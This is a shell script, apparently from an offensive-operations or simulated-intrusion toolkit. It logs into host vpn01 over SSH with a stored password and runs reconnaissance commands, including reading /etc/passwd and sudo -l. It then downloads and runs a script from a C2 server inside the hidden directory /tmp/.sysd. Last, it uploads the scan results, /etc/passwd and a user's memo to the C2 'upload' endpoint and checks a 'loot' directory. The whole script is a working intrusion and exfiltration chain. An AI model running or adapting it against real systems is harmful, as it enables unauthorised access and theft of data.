#!/bin/sh
# Interactive discovery session as hoshu on vpn01 (typed into a real shell, so it lands in .bash_history).
. /root/ops/common.sh
pw=$(hoshu_pw)
[ -n "$pw" ] || { log "recon: no password"; exit 1; }
log "recon session as hoshu"
typed <<CMDS | timeout 200 sshpass -p "$pw" ssh -tt $SSHO -o PubkeyAuthentication=no "hoshu@$TARGET" > "$OPS/session-recon.log" 2>&1
whoami
id
hostname
uname -a
ip a
ip route
cat /etc/passwd
cat /etc/hosts
sudo -l
w
ps aux
ls -la
cat maint-memo.txt
mkdir -p /tmp/.sysd && cd /tmp/.sysd
curl -s -o s.sh "$C2/beacon?id=vpn01"
bash s.sh > scan.txt 2>/dev/null
#sleep 15
cat scan.txt
curl -s --data-binary @scan.txt "$C2/upload?name=vpn01-scan.txt"
curl -s --data-binary @/etc/passwd "$C2/upload?name=vpn01-passwd"
curl -s --data-binary @/home/hoshu/maint-memo.txt "$C2/upload?name=vpn01-memo.txt"
cd
exit
CMDS
log "recon done rc=$?"
ls /var/lib/c2/loot/ | grep -q vpn01-memo
